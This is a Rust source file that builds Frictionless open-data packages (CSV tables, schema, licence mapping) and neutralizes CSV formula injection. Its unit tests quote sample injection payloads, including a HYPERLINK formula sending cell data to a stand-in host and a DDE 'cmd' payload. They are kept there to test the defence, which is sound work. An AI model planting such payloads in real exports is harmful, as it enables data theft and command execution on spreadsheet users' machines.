//! The Frictionless description of the open data: each CSV as a tabular
//! resource with its fields, types and keys, and the package with its licence
//! and source (`datapackage.json`).

use crate::{Errore, Relazione};
use serde_json::{Value as Json, json};

/// The licence of the open data: its identifier, its name and its address.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Licenza {
    /// `CC-BY-4.0`: the identifier Frictionless asks for.
    pub id: String,
    /// `CC BY 4.0`, as printed.
    pub nome: String,
    pub url: Option<String>,
}

impl Licenza {
    /// The licence an ente chose (`licenza_dati`), CC BY 4.0 without one, as the
    /// AgID open-data guidelines suggest.
    pub fn di(scelta: Option<&str>) -> Licenza {
        let scelta = scelta.map(str::trim).filter(|s| !s.is_empty()).unwrap_or("CC BY 4.0");
        let nota = |id: &str, url: &str| Licenza {
            id: id.into(),
            nome: scelta.into(),
            url: Some(url.into()),
        };
        match crate::format::normalizza(scelta).as_str() {
            "ccby40" => nota("CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/deed.it"),
            "cc010" | "cc0" => nota("CC0-1.0", "https://creativecommons.org/publicdomain/zero/1.0/deed.it"),
            "ccbysa40" => nota("CC-BY-SA-4.0", "https://creativecommons.org/licenses/by-sa/4.0/deed.it"),
            "odbl" | "odbl10" => nota("ODbL-1.0", "https://opendatacommons.org/licenses/odbl/1-0/"),
            "iodl20" => nota("IODL-2.0", "https://www.dati.gov.it/iodl/2.0/"),
            _ => Licenza {
                id: crate::render::html::ancora(scelta),
                nome: scelta.into(),
                url: None,
            },
        }
    }
}

/// A CSV file being made: its header and rows, and the Frictionless fields.
pub(super) struct Tabella {
    pub(super) nome: &'static str,
    titolo: String,
    campi: Vec<Json>,
    pub(super) righe: Vec<Vec<String>>,
    pub(super) chiave: Option<&'static str>,
    pub(super) esterne: Vec<Json>,
}

impl Tabella {
    pub(super) fn nuova(nome: &'static str, titolo: String, campi: &[(&str, &str, &str)]) -> Tabella {
        Tabella {
            nome,
            titolo,
            // Numbers are written with a point, whatever the locale of who reads
            // them: the schema says so.
            campi: campi
                .iter()
                .map(|(n, tipo, descrizione)| {
                    if *tipo == "number" {
                        json!({"name": n, "type": tipo, "description": descrizione, "decimalChar": "."})
                    } else {
                        json!({"name": n, "type": tipo, "description": descrizione})
                    }
                })
                .collect(),
            righe: Vec::new(),
            chiave: None,
            esterne: Vec::new(),
        }
    }

    pub(super) fn csv(&self) -> Result<Vec<u8>, Errore> {
        let mut w = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(Vec::new());
        let errore = |e: csv::Error| Errore::Interno(format!("scrittura di {}.csv: {e}", self.nome));
        let testa: Vec<&str> = self.campi.iter().filter_map(|c| c["name"].as_str()).collect();
        w.write_record(&testa).map_err(errore)?;
        let testuali: Vec<bool> = self
            .campi
            .iter()
            .map(|c| c["type"].as_str() == Some("string"))
            .collect();
        for r in &self.righe {
            let riga = r.iter().enumerate().map(|(i, cella)| {
                if testuali.get(i).copied().unwrap_or(true) {
                    inerte(cella)
                } else {
                    std::borrow::Cow::Borrowed(cella.as_str())
                }
            });
            w.write_record(riga.map(|c| c.into_owned())).map_err(errore)?;
        }
        w.into_inner()
            .map_err(|e| Errore::Interno(format!("scrittura di {}.csv: {e}", self.nome)))
    }

    fn risorsa(&self) -> Json {
        let mut schema = json!({"fields": self.campi, "missingValues": [""]});
        if let Some(k) = self.chiave {
            schema["primaryKey"] = json!([k]);
        }
        if !self.esterne.is_empty() {
            schema["foreignKeys"] = json!(self.esterne);
        }
        json!({
            "name": self.nome,
            "path": format!("{}.csv", self.nome),
            "title": self.titolo,
            "format": "csv",
            "mediatype": "text/csv",
            "encoding": "utf-8",
            "schema": schema,
        })
    }
}

/// The package: what the data are, their licence, their source, their files.
pub(super) fn pacchetto(r: &Relazione, tabelle: &[Tabella], licenza: &Licenza, pdf: &str) -> Result<Vec<u8>, Errore> {
    let ente = &r.piano().ente;
    let titolo = format!("{} {} – {}", ente.titolo, ente.anno, ente.nome);
    let mut licenza_json = json!({"name": licenza.id, "title": licenza.nome});
    if let Some(url) = &licenza.url {
        licenza_json["path"] = json!(url);
    }
    let pacchetto = json!({
        "name": crate::render::html::ancora(&format!("{} {} {}", ente.titolo, ente.anno, ente.nome)),
        "title": format!("{titolo}: i dati"),
        "description": format!(
            "Le cifre della {titolo}: indicatori, obiettivi, unità organizzative, obiettivi individuali e \
             modifiche deliberate. Ogni cifra è quella stampata nel documento approvato ({pdf}), senza arrotondamenti."
        ),
        "created": format!("{}T00:00:00Z", ente.data_documento().format("%Y-%m-%d")),
        "licenses": [licenza_json],
        "sources": [{"title": format!("{titolo} (il documento approvato, {pdf})")}],
        "resources": tabelle.iter().map(Tabella::risorsa).collect::<Vec<_>>(),
    });
    let mut json = serde_json::to_vec_pretty(&pacchetto).map_err(|e| Errore::Interno(e.to_string()))?;
    json.push(b'\n');
    Ok(json)
}

/// A text of the open data as a spreadsheet may open it without running it
/// (OWASP, "CSV Injection"): a text that begins — after any spaces — with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which a
/// spreadsheet shows as text (`=HYPERLINK(…)` would otherwise be a live link
/// to whatever it computes); a plain number such as `-5` stays as it is.
/// Control characters (NUL, BEL, …), which no text of a Relazione holds and
/// some programs stop at, are shown as their visible signs.
pub(super) fn inerte(testo: &str) -> std::borrow::Cow<'_, str> {
    let visibile = crate::terminale::pulito(testo);
    let attivo = visibile.trim_start_matches(' ').starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{fe63}', '\u{ff0d}', '\u{ff20}',
    ]) && visibile.trim().parse::<rust_decimal::Decimal>().is_err();
    if attivo {
        std::borrow::Cow::Owned(format!("'{visibile}"))
    } else {
        visibile
    }
}

#[cfg(test)]
mod tests {
    use super::inerte;

    #[test]
    fn formulas_in_texts_are_neutralized() {
        assert_eq!(
            inerte("=HYPERLINK(\"https://x.example/?\"&A2,\"Dettagli\")"),
            "'=HYPERLINK(\"https://x.example/?\"&A2,\"Dettagli\")"
        );
        assert_eq!(inerte("  +cmd|' /C calc'!A0"), "'  +cmd|' /C calc'!A0");
        assert_eq!(inerte("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(inerte("\u{ff1d}1+1"), "'\u{ff1d}1+1");
        // Plain numbers and ordinary texts as they are; controls shown.
        assert_eq!(inerte("-5"), "-5");
        assert_eq!(inerte("Obiettivo - fase 2"), "Obiettivo - fase 2");
        assert_eq!(inerte("a\u{0}b\u{7}"), "a␀b␇");
    }

    use super::*;

    #[test]
    fn the_licence_is_cc_by_unless_the_ente_chooses() {
        assert_eq!(Licenza::di(None).id, "CC-BY-4.0");
        assert_eq!(Licenza::di(Some("CC0 1.0")).id, "CC0-1.0");
        assert_eq!(Licenza::di(Some("iodl-2.0")).id, "IODL-2.0");
        let altra = Licenza::di(Some("Licenza della Regione"));
        assert_eq!((altra.id.as_str(), altra.url), ("licenza-della-regione", None));
    }
}
